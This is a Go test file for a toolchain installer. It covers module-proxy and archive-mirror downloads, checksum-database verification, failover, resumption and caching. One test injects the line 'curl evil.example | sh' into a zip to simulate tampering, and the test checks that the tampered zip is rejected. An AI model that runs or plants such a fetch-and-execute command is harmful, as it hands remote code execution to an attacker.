package toolchain

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/gosetup/gosetup/internal/catalog"
	"github.com/gosetup/gosetup/internal/dist"
	"github.com/gosetup/gosetup/internal/mirrortest"
)

// moduleSetup serves the toolchain module zip from one proxy per wrap, each
// passing the test checksum database through, and registers the zip's real
// h1 with the database. It returns the proxies and the release.
func moduleSetup(t *testing.T, e *env, zipData []byte, wraps ...func(w http.ResponseWriter, r *http.Request, serve func())) ([]*fileServer, Release) {
	if e.db == nil {
		e.db = newTestSumDB(t)
	}
	v := dist.ModuleVersion(instVersion, e.p)
	e.db.add(dist.ToolchainModule, v, zipH1(t, zipData))
	files := map[string][]byte{"/" + dist.ToolchainModule + "/@v/" + v + ".zip": zipData}
	var srvs []*fileServer
	for i, w := range wraps {
		s := e.db.proxyFiles(t, files, w)
		e.addProxy("p"+string(rune('a'+i)), s.URL)
		srvs = append(srvs, s)
	}
	return srvs, Release{Version: instVersion, Stable: true, Modules: []string{e.p.String()}}
}

func goodModuleZip(t *testing.T, p dist.Platform) []byte {
	return mirrortest.Zip(dist.ModuleZipPrefix(instVersion, p), fakeToolchain(instVersion, p))
}

func TestInstallModule(t *testing.T) {
	e := newEnv(t)
	zipData := mirrortest.Zip(dist.ModuleZipPrefix(instVersion, e.p), bigToolchain(instVersion, e.p))
	_, rel := moduleSetup(t, e, zipData, nil)
	parent := t.TempDir()
	dir := filepath.Join(parent, "go")
	res, err := e.installer().Install(context.Background(), Request{Release: rel, Dir: dir, Source: SourceModule})
	if err != nil {
		t.Fatal(err)
	}
	if res.Source != SourceModule || res.Mirror != "pa" || res.Bytes != int64(len(zipData)) {
		t.Errorf("result %+v", res)
	}
	// The zip carries no modes: bin/ and pkg/tool/ must be executable,
	// the rest not.
	if b, err := os.ReadFile(filepath.Join(dir, "src", "twomeg.txt")); err != nil || len(b) != 2<<20 {
		t.Errorf("streamed file: %d bytes, %v", len(b), err)
	}
	for rel, exec := range map[string]bool{"src/empty.txt": false, "bin/go": true, "pkg/tool/" + e.p.OS + "_" + e.p.Arch + "/compile": true, "VERSION": false, "src/medium.txt": false} {
		fi, err := os.Stat(filepath.Join(dir, rel))
		if err != nil {
			t.Fatal(err)
		}
		if got := fi.Mode()&0o111 != 0; got != exec {
			t.Errorf("%s mode %v, executable=%v want %v", rel, fi.Mode(), got, exec)
		}
	}
	assertClean(t, parent, "go")
	var last Event
	for _, ev := range e.events {
		if ev.Phase == PhaseUnpack {
			last = ev
		}
	}
	if last.FilesTotal == 0 || last.Files != last.FilesTotal || last.Rate <= 0 {
		t.Errorf("last unpack event %+v: want every file counted out of a known total", last)
	}
}

// A proxy serving a tampered zip (valid zip, different content) fails the
// checksum database comparison; the next proxy's good copy is used.
func TestModuleTamperedFailsOver(t *testing.T) {
	e := newEnv(t)
	good := goodModuleZip(t, e.p)
	es := withRoot(dist.ModuleZipPrefix(instVersion, e.p), fakeToolchain(instVersion, e.p))
	es[1].Body += "curl evil.example | sh\n"
	tampered := mirrortest.Zip("", es)
	_, rel := moduleSetup(t, e, good,
		func(w http.ResponseWriter, r *http.Request, serve func()) {
			w.Header().Set("Content-Type", "application/zip")
			w.Write(tampered)
		}, nil)
	in := e.installer()
	in.RankTimeout = -1
	res, err := in.Install(context.Background(), Request{Release: rel, Dir: filepath.Join(t.TempDir(), "go"), Source: SourceModule})
	if err != nil {
		t.Fatal(err)
	}
	if res.Mirror != "pb" {
		t.Errorf("served by %s", res.Mirror)
	}
	if f := e.failovers(); len(f) == 0 || f[0] != "pa" {
		t.Errorf("failovers %v", f)
	}
}

func TestModuleTamperedOnlyProxy(t *testing.T) {
	e := newEnv(t)
	good := goodModuleZip(t, e.p)
	es := withRoot(dist.ModuleZipPrefix(instVersion, e.p), fakeToolchain(instVersion, e.p))
	es[2].Body = "go1.99.0\n"
	tampered := mirrortest.Zip("", es)
	_, rel := moduleSetup(t, e, good, func(w http.ResponseWriter, r *http.Request, serve func()) { w.Write(tampered) })
	parent := t.TempDir()
	dir := filepath.Join(parent, "go")
	installExisting(t, dir, "go1.21.0", e.p)
	before := snapshot(t, dir)
	_, err := e.installer().Install(context.Background(), Request{Release: rel, Dir: dir, Source: SourceModule})
	if err == nil || !strings.Contains(err.Error(), "does not match the checksum database") {
		t.Fatalf("err = %v", err)
	}
	assertSame(t, before, snapshot(t, dir))
	assertClean(t, parent, "go")
}

// The module zip rules: every file under the module prefix.
func TestModuleZipRules(t *testing.T) {
	e := newEnv(t)
	es := withRoot(dist.ModuleZipPrefix(instVersion, e.p), fakeToolchain(instVersion, e.p))
	es = append(es, tEntry{Name: "go/bin/go", Body: "#!/bin/sh\n"})
	bad := mirrortest.Zip("", es)
	_, rel := moduleSetup(t, e, bad, nil)
	parent := t.TempDir()
	_, err := e.installer().Install(context.Background(), Request{Release: rel, Dir: filepath.Join(parent, "go"), Source: SourceModule})
	if err == nil || !strings.Contains(err.Error(), "go/bin/go") || !strings.Contains(err.Error(), "module zip rules") {
		t.Fatalf("err = %v", err)
	}
	assertClean(t, parent)
}

// A module the checksum database has never heard of is not installed.
func TestModuleUnknownToSumDB(t *testing.T) {
	e := newEnv(t)
	e.db = newTestSumDB(t)
	zipData := goodModuleZip(t, e.p)
	v := dist.ModuleVersion(instVersion, e.p)
	s := e.db.proxyFiles(t, map[string][]byte{"/" + dist.ToolchainModule + "/@v/" + v + ".zip": zipData}, nil)
	e.addProxy("pa", s.URL)
	rel := Release{Version: instVersion, Modules: []string{e.p.String()}}
	parent := t.TempDir()
	_, err := e.installer().Install(context.Background(), Request{Release: rel, Dir: filepath.Join(parent, "go"), Source: SourceModule})
	if err == nil || !strings.Contains(err.Error(), "checksum database cannot vouch") {
		t.Fatalf("err = %v", err)
	}
	assertClean(t, parent)
}

// auto: when the archive mirrors do not have the file, the module channel
// installs it.
func TestAutoFallsBackToModule(t *testing.T) {
	e := newEnv(t)
	archive := goodArchive(t, e)
	_, arel := archiveSetup(t, e, archive, func(w http.ResponseWriter, r *http.Request, serve func()) { http.NotFound(w, r) })
	_, mrel := moduleSetup(t, e, goodModuleZip(t, e.p), nil)
	rel := arel
	rel.Modules = mrel.Modules
	in := e.installer()
	in.RankTimeout = -1 // archive first
	res, err := in.Install(context.Background(), Request{Release: rel, Dir: filepath.Join(t.TempDir(), "go"), Source: SourceAuto})
	if err != nil {
		t.Fatal(err)
	}
	if res.Source != SourceModule {
		t.Errorf("source %s", res.Source)
	}
}

// auto: the faster-answering channel goes first.
func TestAutoRanksChannels(t *testing.T) {
	e := newEnv(t)
	archive := goodArchive(t, e)
	// The archive mirror answers the ranking probe only once the module
	// proxy has answered its own (a signal: a module probe delayed by a
	// loaded machine still comes first), and then 300 ms later: that gap
	// is what the ranking measures, the client's own scheduling noise
	// stays far below it.
	moduleRanked := make(chan struct{})
	var once sync.Once
	_, arel := archiveSetup(t, e, archive, func(w http.ResponseWriter, r *http.Request, serve func()) {
		if r.Header.Get("Range") == "bytes=0-0" {
			select {
			case <-moduleRanked:
				time.Sleep(300 * time.Millisecond)
			case <-r.Context().Done():
			}
		}
		serve()
	})
	_, mrel := moduleSetup(t, e, goodModuleZip(t, e.p), func(w http.ResponseWriter, r *http.Request, serve func()) {
		serve()
		if strings.HasSuffix(r.URL.Path, ".zip") && r.Header.Get("Range") == "bytes=0-0" {
			once.Do(func() { close(moduleRanked) })
		}
	})
	rel := arel
	rel.Modules = mrel.Modules
	res, err := e.installer().Install(context.Background(), Request{Release: rel, Dir: filepath.Join(t.TempDir(), "go")})
	if err != nil {
		t.Fatal(err)
	}
	if res.Source != SourceModule {
		t.Errorf("source %s, want the faster module channel", res.Source)
	}
}

// --mirror restricts the download to one mirror.
func TestMirrorChoice(t *testing.T) {
	e := newEnv(t)
	archive := goodArchive(t, e)
	srvs, rel := archiveSetup(t, e, archive, nil, nil)
	res, err := e.installer().Install(context.Background(), Request{Release: rel, Dir: filepath.Join(t.TempDir(), "go"), Mirror: "mb"})
	if err != nil {
		t.Fatal(err)
	}
	if res.Mirror != "mb" || len(srvs[0].requests()) != 0 {
		t.Errorf("mirror %s; ma saw %d requests", res.Mirror, len(srvs[0].requests()))
	}
	_, err = e.installer().Install(context.Background(), Request{Release: rel, Dir: filepath.Join(t.TempDir(), "go"), Mirror: "nope"})
	if err == nil || !strings.Contains(err.Error(), "nope") {
		t.Fatalf("err = %v", err)
	}
	// A URL works as an ad-hoc mirror.
	res, err = e.installer().Install(context.Background(), Request{Release: rel, Dir: filepath.Join(t.TempDir(), "go"), Source: SourceArchive, Mirror: srvs[1].URL})
	if err != nil || res.Mirror != srvs[1].URL {
		t.Fatalf("res %+v err %v", res, err)
	}
}

// A Windows-style zip archive (go/ prefix) is verified by SHA-256 and
// unpacked; bin/go is not run because it is not for this machine.
func TestInstallZipArchiveForOtherPlatform(t *testing.T) {
	e := newEnv(t)
	e.p = dist.Platform{OS: "windows", Arch: "amd64"}
	data := mirrortest.Zip("go/", fakeToolchain(instVersion, e.p))
	_, rel := archiveSetup(t, e, data, nil)
	if !strings.HasSuffix(rel.Files[0].Filename, ".zip") {
		t.Fatal(rel.Files[0].Filename)
	}
	parent := t.TempDir()
	res, err := e.installer().Install(context.Background(), Request{Release: rel, Dir: filepath.Join(parent, "go"), Source: SourceArchive})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Warnings) == 0 || !strings.Contains(res.Warnings[0], "not run") {
		t.Errorf("warnings %v", res.Warnings)
	}
	assertClean(t, parent, "go")
	corrupt := retimedZip(data)
	e2 := newEnv(t)
	e2.p = e.p
	_, rel2 := archiveSetup(t, e2, data, func(w http.ResponseWriter, r *http.Request, serve func()) { w.Write(corrupt) })
	_, err = e2.installer().Install(context.Background(), Request{Release: rel2, Dir: filepath.Join(parent, "go2"), Source: SourceArchive})
	if err == nil || !strings.Contains(err.Error(), "checksum mismatch") {
		t.Fatalf("err = %v", err)
	}
	assertClean(t, parent, "go")
	var all *AllMirrorsFailedError
	if !errors.As(err, &all) {
		t.Errorf("err %T", err)
	}
}

// retimedZip changes a zip's first local header modification time: still a
// valid zip, but not the published bytes.
func retimedZip(data []byte) []byte {
	c := append([]byte(nil), data...)
	c[10] ^= 0x01
	return c
}

// The module zip download resumes with Range after a dropped connection;
// its size, unknown beforehand, is learnt from the first response.
func TestModuleResumeAfterDrop(t *testing.T) {
	e := newEnv(t)
	zipData := goodModuleZip(t, e.p)
	var drops atomic.Int32
	srvs, rel := moduleSetup(t, e, zipData, func(w http.ResponseWriter, r *http.Request, serve func()) {
		if r.Header.Get("Range") == "" && drops.Add(1) == 1 {
			w.Header().Set("Content-Length", fmt.Sprint(len(zipData)))
			w.Header().Set("ETag", `"z"`)
			w.Write(zipData[:len(zipData)/2])
			w.(http.Flusher).Flush()
			conn, _, _ := w.(http.Hijacker).Hijack()
			conn.Close()
			return
		}
		serve()
	})
	in := e.installer()
	in.RankTimeout = -1
	res, err := in.Install(context.Background(), Request{Release: rel, Dir: filepath.Join(t.TempDir(), "go"), Source: SourceModule})
	if err != nil {
		t.Fatal(err)
	}
	if res.Bytes != int64(len(zipData)) {
		t.Errorf("downloaded %d bytes, want %d", res.Bytes, len(zipData))
	}
	var resumed bool
	for _, r := range srvs[0].requests() {
		if strings.HasPrefix(r.Header.Get("Range"), "bytes=") && r.Header.Get("Range") != "bytes=0-0" {
			resumed = true
		}
	}
	if !resumed {
		t.Error("no Range request")
	}
}

// With a cache directory, an interrupted module download is kept there and
// the next run resumes it with Range; once complete it is removed. A cached
// file longer than the real one is discarded, not resumed onto.
func TestModuleDownloadCacheResumesAcrossRuns(t *testing.T) {
	e := newEnv(t)
	zipData := goodModuleZip(t, e.p)
	var broken atomic.Bool
	broken.Store(true)
	srvs, rel := moduleSetup(t, e, zipData, func(w http.ResponseWriter, r *http.Request, serve func()) {
		if broken.Load() && r.Header.Get("Range") != "bytes=0-0" {
			w.Header().Set("Content-Length", fmt.Sprint(len(zipData)))
			w.Header().Set("ETag", `"`+mirrortest.SHA256(zipData)[:16]+`"`)
			w.Write(zipData[:len(zipData)/2])
			w.(http.Flusher).Flush()
			conn, _, _ := w.(http.Hijacker).Hijack()
			conn.Close()
			return
		}
		serve()
	})
	cache := t.TempDir()
	partial := filepath.Join(cache, "downloads", dist.ModuleVersion(instVersion, e.p)+".zip.partial")
	parent := t.TempDir()
	dir := filepath.Join(parent, "go")
	in := e.installer()
	in.CacheDir = cache
	in.RankTimeout = -1
	if _, err := in.Install(context.Background(), Request{Release: rel, Dir: dir, Source: SourceModule}); err == nil {
		t.Fatal("install succeeded against a server that always drops")
	}
	assertClean(t, parent)
	fi, err := os.Stat(partial)
	if err != nil || fi.Size() != int64(len(zipData)/2) {
		t.Fatalf("partial download: %v %v, want %d bytes kept", fi, err, len(zipData)/2)
	}

	broken.Store(false)
	before := len(srvs[0].requests())
	res, err := in.Install(context.Background(), Request{Release: rel, Dir: dir, Source: SourceModule})
	if err != nil {
		t.Fatal(err)
	}
	if res.Bytes != int64(len(zipData)-len(zipData)/2) || res.Resumed != int64(len(zipData)/2) {
		t.Errorf("second run downloaded %d bytes and resumed %d, want only the missing %d and %d resumed", res.Bytes, res.Resumed, len(zipData)-len(zipData)/2, len(zipData)/2)
	}
	var resumed bool
	for _, r := range srvs[0].requests()[before:] {
		if r.Header.Get("Range") == fmt.Sprintf("bytes=%d-", len(zipData)/2) && r.Header.Get("If-Range") != "" {
			resumed = true
		}
	}
	if !resumed {
		t.Error("the second run did not resume with Range and If-Range")
	}
	if _, err := os.Stat(partial); !os.IsNotExist(err) {
		t.Errorf("the cached download survived a successful install: %v", err)
	}

	// A cached file longer than the real one starts over.
	os.WriteFile(partial, append(append([]byte(nil), zipData...), "junk"...), 0o644)
	dir2 := filepath.Join(parent, "go2")
	if _, err := in.Install(context.Background(), Request{Release: rel, Dir: dir2, Source: SourceModule}); err != nil {
		t.Fatal(err)
	}
	// A cached file that is already complete needs no download at all.
	os.WriteFile(partial, zipData, 0o644)
	res, err = in.Install(context.Background(), Request{Release: rel, Dir: filepath.Join(parent, "go3"), Source: SourceModule})
	if err != nil || res.Bytes != 0 {
		t.Fatalf("complete cache: %+v %v", res, err)
	}
}

// A proxy whose checksum-database pass-through is down: the lookup moves on
// to the next proxy instead of failing the module channel.
func TestModuleSumDBThroughNextProxy(t *testing.T) {
	e := newEnv(t)
	zipData := goodModuleZip(t, e.p)
	_, rel := moduleSetup(t, e, zipData, nil)
	v := dist.ModuleVersion(instVersion, e.p)
	broken := newFileServer(t, map[string][]byte{"/" + dist.ToolchainModule + "/@v/" + v + ".zip": zipData}, func(w http.ResponseWriter, r *http.Request, serve func()) {
		if strings.HasSuffix(r.URL.Path, "/supported") {
			return // claims to pass the database through...
		}
		if strings.HasPrefix(r.URL.Path, "/sumdb/") {
			http.Error(w, "upstream down", http.StatusBadGateway) // ...but fails
			return
		}
		serve()
	})
	// The broken proxy first.
	e.cat.Proxy = append([]catalog.Entry{{Name: "broken", URL: broken.URL}}, e.cat.Proxy...)
	in := e.installer()
	in.RankTimeout = -1
	res, err := in.Install(context.Background(), Request{Release: rel, Dir: filepath.Join(t.TempDir(), "go"), Source: SourceModule})
	if err != nil {
		t.Fatal(err)
	}
	if res.Mirror != "broken" {
		t.Errorf("zip served by %s; the download itself was fine from the first proxy", res.Mirror)
	}
}

// When the checksum database cannot vouch for the module, the zip download
// is abandoned at once instead of being finished for nothing.
func TestModuleSumDBFailureStopsDownload(t *testing.T) {
	e := newEnv(t)
	e.db = newTestSumDB(t) // knows nothing
	zipData := goodModuleZip(t, e.p)
	v := dist.ModuleVersion(instVersion, e.p)
	s := e.db.proxyFiles(t, map[string][]byte{"/" + dist.ToolchainModule + "/@v/" + v + ".zip": zipData}, func(w http.ResponseWriter, r *http.Request, serve func()) {
		w.Header().Set("Content-Length", fmt.Sprint(len(zipData)))
		w.Write(zipData[:len(zipData)/2])
		w.(http.Flusher).Flush()
		select { // a slow proxy
		case <-r.Context().Done():
		case <-time.After(20 * time.Second):
		}
	})
	e.addProxy("pa", s.URL)
	in := e.installer()
	in.StallTimeout = 20 * time.Second
	in.RankTimeout = -1
	start := time.Now()
	_, err := in.Install(context.Background(), Request{Release: Release{Version: instVersion, Modules: []string{e.p.String()}}, Dir: filepath.Join(t.TempDir(), "go"), Source: SourceModule})
	if err == nil || !strings.Contains(err.Error(), "checksum database cannot vouch") {
		t.Fatalf("err = %v", err)
	}
	if d := time.Since(start); d > 10*time.Second {
		t.Errorf("took %s: the download went on after the lookup failed", d)
	}
}
